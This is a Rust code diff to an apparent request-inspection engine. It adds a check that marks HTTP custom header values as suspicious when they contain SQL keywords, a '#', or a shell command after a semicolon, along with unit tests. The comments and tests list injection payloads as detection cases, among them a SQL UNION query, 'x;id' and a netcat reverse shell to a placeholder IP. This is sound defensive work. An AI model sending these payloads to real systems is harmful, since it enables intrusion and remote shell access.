@@ -55,7 +55,7 @@ impl Engine {
         }
         let target = binary;
         let plain = is_plain(raw)
-            || (target == targets::HEADERS && is_quiet_header(raw))
+            || (target == targets::HEADERS && is_quiet_custom_header(raw))
             || (target == targets::UA_REF && is_quiet_user_agent(raw));
         let n = if plain {
             Normalized::plain(raw)
@@ -268,6 +268,28 @@ pub(super) fn is_quiet_header(b: &[u8]) -> bool {
             .any(|i| b.get(i + 1) == Some(&b'*') && (i == 0 || b[i - 1] != b'*'))
 }
 
+/// A header value that meets the plain rules only: quiet, and without
+/// what SQL or a shell reads with no punctuation a header lacks (an SQL
+/// word: `-1 UNION ALL SELECT NULL,@@version`; a `#`; a command after a
+/// `;`: `; nc -e /bin/sh host 4444`, where a parameter is `; q=0.9`).
+pub(super) fn is_quiet_custom_header(b: &[u8]) -> bool {
+    is_quiet_header(b)
+        && memchr::memchr(b'#', b).is_none()
+        && !memchr::memchr_iter(b';', b).any(|i| command_after(&b[i + 1..]))
+        && !libinj::has_sql_word(b)
+}
+
+/// Whether text after a `;` starts with a word and then a space or the
+/// end (a command), not a parameter (`q=0.9`, `charset=utf-8`).
+fn command_after(rest: &[u8]) -> bool {
+    let rest = rest.trim_ascii_start();
+    let word = rest
+        .iter()
+        .take_while(|c| c.is_ascii_alphanumeric() || matches!(c, b'_' | b'.' | b'/' | b'-'))
+        .count();
+    word > 0 && rest.get(word).is_none_or(|c| c.is_ascii_whitespace())
+}
+
 /// A browser-like User-Agent: quiet as a header, no quotes or `=`, no SQL
 /// word. Such values meet the plain rules only.
 pub(super) fn is_quiet_user_agent(b: &[u8]) -> bool {
@@ -280,6 +302,27 @@ pub(super) fn is_quiet_user_agent(b: &[u8]) -> bool {
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    #[test]
+    fn custom_headers_with_sql_words_or_commands_are_not_quiet() {
+        for h in [
+            "text/html,application/xhtml+xml,*/*;q=0.8",
+            "application/json; charset=utf-8",
+            "max-age=0",
+            "gzip, deflate, br",
+            "en-US,en;q=0.9",
+        ] {
+            assert!(is_quiet_custom_header(h.as_bytes()), "{h}");
+        }
+        for h in [
+            "-1 UNION ALL SELECT NULL,NULL,@@version",
+            "; nc -e /bin/sh 203.0.113.7 4444",
+            "1) OR 1=1#",
+            "x;id",
+        ] {
+            assert!(!is_quiet_custom_header(h.as_bytes()), "{h}");
+        }
+    }
 
     #[test]
     fn quiet_headers_hold_no_code_punctuation() {
